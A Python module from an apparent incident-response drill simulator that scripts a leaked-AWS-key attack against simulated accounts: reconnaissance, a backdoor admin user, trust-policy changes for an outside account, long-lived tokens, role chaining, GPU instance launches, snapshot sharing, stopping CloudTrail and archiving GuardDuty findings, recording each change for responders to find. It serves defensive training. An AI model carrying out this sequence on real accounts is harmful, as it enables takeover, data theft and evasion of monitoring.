"""The attack with a leaked key: looked around, made to last, moved from role to role, taken, hidden.

Every step is a real call to the simulated accounts; what the attacker needs to know it finds out first.
"""

import io
import json
import random
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any, Final

from sakimori.simulate.drill.hand import HOME, VIRGINIA, Hand, given_in
from sakimori.simulate.drill.record import Attack, Held, Planted, Trick
from sakimori.simulate.identities import Credentials
from sakimori.simulate.state import DEFAULT_REGIONS, Clock

_ADMINISTRATOR: Final = "arn:aws:iam::aws:policy/AdministratorAccess"
ALLOW_ALL: Final = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
USERS: Final = ("aws-support-backup", "svc-monitoring", "cloud-audit-temp", "s3-replication")
_FUNCTIONS: Final = ("healthcheck", "metrics-forwarder", "img-resize-v2", "edge-cache-warmer")
_FILTERS: Final = ("noise", "known-scanner", "maintenance-window")
_OPEN_ROLES: Final = ("aws-service-support", "OrganizationHealthRole", "config-recorder-2")
_UNUSED: Final = (
    "us-west-2",
    "eu-central-1",
    "ap-south-1",
    "sa-east-1",
    "eu-north-1",
    "ca-central-1",
    "ap-southeast-1",
)
_UNKNOWN_ACCOUNT: Final = "999999999999"
_VALIDATOR: Final = "Boto3/1.28.62 md/Botocore#1.31.62 ua/2.0 os/linux#5.15 md/arch#x86_64 lang/python#3.10.12"
# Fourteen Regions by four operations: 56 calls without anything in the answer.
_EMPTY: Final = ("describe_applications", "describe_environments")
_EMPTY_REGIONS: Final = 14
_MINUTE: Final = 60.0
_COMES_BACK: Final = 3.9 * 3600
"""So long after the beginning the sessions are renewed, which last an hour."""


@dataclass(slots=True, kw_only=True)
class Raid:
    """An attack under way. `hands` by the id of a credential; `own` is the attacker's account, if it has one here."""

    leaked: Hand
    chance: random.Random
    clock: Clock
    tricks: frozenset[Trick] = frozenset()
    own: Credentials | None = None
    planted: list[Planted] = field(default_factory=list)
    held: list[Held] = field(default_factory=list)
    hands: dict[str, Hand] = field(default_factory=dict)
    roles: list[str] = field(default_factory=list)
    empty_calls: int = 0
    account: str = ""
    victim: str = ""

    def run(self) -> Attack:
        """From the first try of the key to the last session; some four hours of the story."""
        began_at = self.clock()
        self.leaked.pause(8 * _MINUTE)
        self._looks_around()
        user = self._stays()
        self._holds_on()
        last = self._moves()
        self._takes(user)
        self._blinds(user)
        self._plays_tricks(user)
        self.leaked.pause(max(60.0, _COMES_BACK - (self.clock() - began_at).total_seconds()))
        self._moves()
        last.pause(2 * _MINUTE)
        return Attack(
            began_at=began_at,
            planted=tuple(self.planted),
            held=tuple(self.held),
            roles=tuple(dict.fromkeys(self.roles)),
            empty_calls=self.empty_calls,
        )

    # -- steps ------------------------------------------------------------------------------

    def _looks_around(self) -> None:
        key = self.leaked.credentials
        validator = self.leaked.other(key, address="192.0.2.5", agent=_VALIDATOR)
        who = validator.does("sts", "get_caller_identity")
        self.account, self.victim = who["Account"], who["Arn"].rpartition("/")[2]
        self.keep(Held(id=key.access_key_id, kind="user_key", account=self.account, arn=who["Arn"], issued_by="",
                       credentials=key, user=self.victim), self.leaked)  # fmt: skip
        self.leaked.pause(7 * _MINUTE)
        self.leaked.does("sts", "get_caller_identity")
        for service, method in (
            ("iam", "list_users"), ("iam", "list_roles"), ("iam", "get_account_summary"), ("s3", "list_buckets"),
            ("ses", "get_send_quota"), ("iam", "get_account_authorization_details"), ("organizations", "describe_organization"),
        ):  # fmt: skip
            self.leaked.tries(service, method)
        for region in DEFAULT_REGIONS:
            self.leaked.tries("ec2", "describe_instances", region=region)
        for method in (*_EMPTY, *_EMPTY):
            for region in DEFAULT_REGIONS[:_EMPTY_REGIONS]:
                self.leaked.does("elasticbeanstalk", method, region=region)
                self.empty_calls += 1
        bucket = next((name for name in self._buckets() if "data" in name), "")
        if bucket:
            self.leaked.does("s3", "list_objects_v2", Bucket=bucket)
        self.leaked.pause(12 * _MINUTE)

    def _stays(self) -> Hand:
        """A user of the attacker's own, and a role that lets the attacker's account in."""
        hand, name = self.leaked, f"{self.chance.choice(USERS)}-{self.chance.randrange(10, 99)}"
        arn = hand.does("iam", "create_user", UserName=name)["User"]["Arn"]
        self.note("AWS::IAM::User", name, arn, hand, "CreateUser")
        hand.does("iam", "attach_user_policy", UserName=name, PolicyArn=_ADMINISTRATOR)
        user = self.new_key(hand, name, arn)
        hand.does("iam", "create_login_profile", UserName=name, Password=f"Rogue-{self.chance.getrandbits(60):x}!A")
        self.note("AWS::IAM::LoginProfile", name, arn, hand, "CreateLoginProfile")
        role = next((each for each in self._roles(hand) if _is_for_ec2(each)), None)
        if role:
            trust = role["AssumeRolePolicyDocument"]
            statement = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{self.outside}:root"}, "Action": "sts:AssumeRole"}  # fmt: skip
            document = json.dumps({**trust, "Statement": [*trust["Statement"], statement]})
            hand.does("iam", "update_assume_role_policy", RoleName=role["RoleName"], PolicyDocument=document)
            self.note("AWS::IAM::Role", role["RoleName"], role["Arn"], hand, "UpdateAssumeRolePolicy", is_created=False)
        return user

    def _holds_on(self) -> None:
        """Sessions that outlive the key."""
        given = self.leaked.does("sts", "get_session_token", DurationSeconds=43_200)
        self._keep_session(self.leaked, given, "session_token", self.held[0].arn, user=self.victim)
        given = self.leaked.does("sts", "get_federation_token", Name="deploy", Policy=ALLOW_ALL, DurationSeconds=43_200)
        self._keep_session(self.leaked, given, "federation", given["FederatedUser"]["Arn"], user=self.victim)
        self.leaked.pause(9 * _MINUTE)

    def _moves(self) -> Hand:
        """From role to role: one of the account, one beside it that it leads to, one there that trusts that."""
        hand, target = self.leaked, next(self._ways_out(self.leaked), ("", ""))
        for arn in target:
            if arn:
                hand = self.assume(hand, arn)
        here = hand.does("sts", "get_caller_identity")
        inner = next(
            (
                each
                for each in self._roles(hand)
                if target[1] and target[1] in json.dumps(each["AssumeRolePolicyDocument"])
            ),
            None,
        )
        if inner and here["Account"] != self.account:
            hand = self.assume(hand, inner["Arn"])
            self._reaches_further(hand, here["Account"])
        return hand

    def _reaches_further(self, hand: Hand, account: str) -> None:
        """In the other account: all rights for one of its roles."""
        role = next((each for each in self._roles(hand) if _is_for_ec2(each)), None)
        if role and not any(each.account == account for each in self.planted):
            hand.does("iam", "attach_role_policy", RoleName=role["RoleName"], PolicyArn=_ADMINISTRATOR)
            self.note("AWS::IAM::Role", role["RoleName"], role["Arn"], hand, "AttachRolePolicy", is_created=False,
                      account=account)  # fmt: skip

    def _takes(self, user: Hand) -> None:
        for region in self.chance.sample(_UNUSED, 3):
            made = user.does("ec2", "run_instances", region=region, ImageId="ami-12345678", InstanceType="p4d.24xlarge",
                             MinCount=8, MaxCount=8)  # fmt: skip
            for each in made["Instances"]:
                arn = f"arn:aws:ec2:{region}:{self.account}:instance/{each['InstanceId']}"
                self.note("AWS::EC2::Instance", each["InstanceId"], arn, user, "RunInstances", region=region)
            user.pause(6 * _MINUTE)
        self._makes_function(user)
        address = f"no-reply-{self.chance.randrange(100, 999)}@mail.example"
        user.does("ses", "verify_email_identity", region=VIRGINIA, EmailAddress=address)
        self.note("AWS::SES::EmailIdentity", address, f"arn:aws:ses:{VIRGINIA}:{self.account}:identity/{address}", user,
                  "VerifyEmailIdentity")  # fmt: skip
        volumes = user.does("ec2", "describe_volumes")["Volumes"]
        if volumes:
            made = user.does("ec2", "create_snapshot", VolumeId=volumes[0]["VolumeId"], Description="migration")
            snapshot = made["SnapshotId"]
            self.note("AWS::EC2::Snapshot", snapshot, f"arn:aws:ec2:{HOME}::snapshot/{snapshot}", user, "CreateSnapshot", region=HOME)  # fmt: skip
            user.pause(4 * _MINUTE)
            user.does("ec2", "modify_snapshot_attribute", SnapshotId=snapshot, Attribute="createVolumePermission",
                      OperationType="add", UserIds=[self.outside])  # fmt: skip
        user.pause(15 * _MINUTE)

    def _makes_function(self, user: Hand) -> None:
        name = f"{self.chance.choice(_FUNCTIONS)}-{self.chance.randrange(10, 99)}"
        role = next(each for each in self._roles(user) if "lambda.amazonaws.com" in json.dumps(each["AssumeRolePolicyDocument"]))  # fmt: skip
        made = user.does("lambda", "create_function", region=VIRGINIA, FunctionName=name, Runtime="python3.12",
                         Role=role["Arn"], Handler="index.handler", Code={"ZipFile": code()})  # fmt: skip
        arn = made["FunctionArn"]
        self.note("AWS::Lambda::Function", name, arn, user, "CreateFunction")
        user.does("lambda", "create_function_url_config", region=VIRGINIA, FunctionName=name, AuthType="NONE")
        self.note("AWS::Lambda::Url", arn, arn, user, "CreateFunctionUrlConfig")

    def _blinds(self, user: Hand) -> None:
        trails = user.does("cloudtrail", "describe_trails", region=VIRGINIA)["trailList"]
        for trail in trails:
            if trail["HomeRegion"] == VIRGINIA and not trail.get("IsMultiRegionTrail"):
                user.does("cloudtrail", "stop_logging", region=VIRGINIA, Name=trail["Name"])
                self.note("AWS::CloudTrail::Trail", trail["Name"], trail["TrailARN"], user, "StopLogging", is_created=False)  # fmt: skip
        for detector in user.does("guardduty", "list_detectors")["DetectorIds"]:
            name = f"{self.chance.choice(_FILTERS)}-{self.chance.randrange(10, 99)}"
            criteria = {"Criterion": {"severity": {"Gte": 1}}}
            user.does("guardduty", "create_filter", DetectorId=detector, Name=name, Action="ARCHIVE", FindingCriteria=criteria)  # fmt: skip
            arn = f"arn:aws:guardduty:{HOME}:{self.account}:detector/{detector}/filter/{name}"
            self.note("AWS::GuardDuty::Filter", name, arn, user, "CreateFilter", region=HOME)

    def _plays_tricks(self, user: Hand) -> None:
        if Trick.MFA in self.tricks:
            self._binds_mfa(user)
        if Trick.OPEN_ROLE in self.tricks:
            self._opens_role(user)

    def _binds_mfa(self, user: Hand) -> None:
        name = self.held_by(user).user
        made = user.does("iam", "create_virtual_mfa_device", VirtualMFADeviceName=f"{name}-phone")
        serial = made["VirtualMFADevice"]["SerialNumber"]
        self.note("AWS::IAM::VirtualMFADevice", serial, serial, user, "CreateVirtualMFADevice")
        user.does("iam", "enable_mfa_device", UserName=name, SerialNumber=serial, AuthenticationCode1="123456",
                  AuthenticationCode2="234567")  # fmt: skip
        given = user.does("sts", "get_session_token", SerialNumber=serial, TokenCode="345678", DurationSeconds=129_600)
        self._keep_session(user, given, "session_token", self.held_by(user).arn, user=name)

    def _opens_role(self, user: Hand) -> None:
        """Both roles are assumed from outside: the accounts' own events tell of it by the role alone."""
        name = self.chance.choice(_OPEN_ROLES)
        trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}  # fmt: skip
        arn = user.does("iam", "create_role", RoleName=name, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
        self.note("AWS::IAM::Role", name, arn, user, "CreateRole")
        user.does("iam", "attach_role_policy", RoleName=name, PolicyArn=_ADMINISTRATOR)
        changed = [each.arn for each in self.planted if each.kind == "AWS::IAM::Role" and each.account == self.account]
        for role in dict.fromkeys([arn, *changed]):
            if self.own:
                self.assume(self.leaked.other(self.own), role, from_outside=True)

    # -- what comes of a step ----------------------------------------------------------------

    @property
    def outside(self) -> str:
        """The account that the attacker lets in: its own, or one that is not here."""
        if self.own is None:
            return _UNKNOWN_ACCOUNT
        return str(self.leaked.other(self.own).does("sts", "get_caller_identity")["Account"])

    def assume(self, hand: Hand, arn: str, *, from_outside: bool = False) -> Hand:
        """A session of the role; raises botocore's ClientError."""
        given = hand.does("sts", "assume_role", RoleArn=arn, RoleSessionName=f"botocore-session-{self.chance.randrange(10**9)}")  # fmt: skip
        if arn not in self.roles:
            self.roles.append(arn)
        return self._keep_session(hand, given, "role_session", given["AssumedRoleUser"]["Arn"], role=arn, from_outside=from_outside)  # fmt: skip

    def new_key(self, hand: Hand, user: str, arn: str) -> Hand:
        """A new key for the user; raises botocore's ClientError."""
        made = hand.does("iam", "create_access_key", UserName=user)["AccessKey"]
        self.note("AWS::IAM::AccessKey", made["AccessKeyId"], arn, hand, "CreateAccessKey")
        key = Credentials(access_key_id=made["AccessKeyId"], secret_access_key=made["SecretAccessKey"])
        held = Held(id=key.access_key_id, kind="user_key", account=self.account, arn=arn, user=user, credentials=key,
                    issued_by=hand.credentials.access_key_id)  # fmt: skip
        return self.keep(held, hand.other(key))

    def keep(self, held: Held, hand: Hand) -> Hand:
        """One more credential in hand."""
        self.held.append(held)
        self.hands[held.id] = hand
        return hand

    def held_by(self, hand: Hand) -> Held:
        """The credential that a hand works with."""
        return next(each for each in self.held if each.id == hand.credentials.access_key_id)

    def note(self, kind: str, name: str, arn: str, hand: Hand, change: str, **more: Any) -> None:
        """One more thing that a responder must find. `more` are `region`, `account` and `is_created` where they are not as usual."""
        told = {"region": VIRGINIA, "account": self.account, "is_created": True, **more}
        self.planted.append(
            Planted(
                kind=kind, id=name, arn=arn, by=hand.credentials.access_key_id, change=change, at=self.clock(), **told
            )
        )

    def _keep_session(self, hand: Hand, given: Mapping[str, Any], kind: str, arn: str, **more: Any) -> Hand:
        credentials = given_in(dict(given))
        until: datetime = given["Credentials"]["Expiration"]
        held = Held(id=credentials.access_key_id, kind=kind, account=arn.split(":")[4], arn=arn, credentials=credentials,
                    issued_by=hand.credentials.access_key_id, expires_at=until, **more)  # fmt: skip
        return self.keep(held, hand.other(credentials))

    # -- what can be found out ----------------------------------------------------------------

    def _roles(self, hand: Hand) -> list[dict[str, Any]]:
        return sorted(hand.tries("iam", "list_roles").get("Roles", []), key=lambda role: str(role["RoleName"]))

    def _buckets(self) -> list[str]:
        return [each["Name"] for each in self.leaked.tries("s3", "list_buckets").get("Buckets", [])]

    def _ways_out(self, hand: Hand) -> Iterator[tuple[str, str]]:
        """Roles of the account whose policies name a role of another to assume, with that."""
        for role in self._roles(hand):
            for name in hand.does("iam", "list_role_policies", RoleName=role["RoleName"])["PolicyNames"]:
                document = hand.does("iam", "get_role_policy", RoleName=role["RoleName"], PolicyName=name)["PolicyDocument"]  # fmt: skip
                for statement in document["Statement"]:
                    if statement.get("Action") == "sts:AssumeRole":
                        yield role["Arn"], statement["Resource"]


def _is_for_ec2(role: Mapping[str, Any]) -> bool:
    return (
        "ec2.amazonaws.com" in json.dumps(role["AssumeRolePolicyDocument"]) and "/aws-service-role/" not in role["Arn"]
    )


def code() -> bytes:
    """A function that does nothing, zipped."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.py", "def handler(event, context):\n    return {}\n")
    return packed.getvalue()
